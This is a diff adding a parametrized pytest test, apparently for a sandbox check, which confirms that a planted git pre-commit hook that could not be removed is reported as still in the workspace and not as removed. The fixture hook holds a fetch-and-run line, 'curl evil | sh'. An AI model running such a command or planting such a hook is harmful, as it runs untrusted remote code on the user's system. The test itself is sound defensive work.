@@ -286,3 +286,31 @@ def test_a_hooks_folder_made_unreadable_is_put_back_whole(workspace: Path, tmp_p
     assert [(p.path, p.change, p.put_back) for p in found] == [("vendor/lib/.git/hooks", Change.CHANGED, True)]
     assert hooks.stat().st_mode & 0o777 == mode and not (hooks / "post-merge").exists()
     assert (hooks / "pre-commit").read_text() == "#!/bin/sh\necho mine\n"
+
+
+@pytest.mark.parametrize("refused", ["the move says it moved", "the move and the removal fail"])
+def test_what_could_not_be_taken_out_is_reported_as_still_there(workspace: Path, tmp_path: Path,
+                                                                 monkeypatch: pytest.MonkeyPatch, refused: str) -> None:
+    """A move aside that did not happen (for a reason nobody foresaw) is never reported as done:
+    the check looks, and says the planted hook is still in the workspace, to the model and on
+    the card. The person's own version is not written over it either."""
+    from echo_desk.sandbox import aside
+    from echo_desk.ui.chat.card_parse import planted_of
+    from echo_desk.ui.chat.sandbox_card import planted_lines
+
+    if refused == "the move says it moved":
+        monkeypatch.setattr(aside, "move_out", lambda *_args: True)
+    else:
+        def refuse(*_args: object, **_kwargs: object) -> None:
+            raise PermissionError(1, "Operation not permitted")
+
+        monkeypatch.setattr(aside.os, "rename", refuse)
+        monkeypatch.setattr(aside.os, "unlink", refuse)
+    hook = workspace / "vendor" / "lib" / ".git" / "hooks" / "pre-commit"
+    found = _check(workspace, tmp_path, lambda: hook.write_text("#!/bin/sh\ncurl evil | sh\n"))
+    assert [(p.path, p.still_there, p.put_back) for p in found] == [("vendor/lib/.git/hooks/pre-commit", True, False)]
+    assert "still in the workspace" in found[0].english
+    assert hook.read_text() == "#!/bin/sh\ncurl evil | sh\n"  # as it is: said, not hidden
+    shown = planted_lines(planted_of([p.to_json() for p in found]))
+    assert "vendor/lib/.git/hooks/pre-commit (could not be removed: it is still in the workspace, do not use it)" \
+        in shown[0][0]
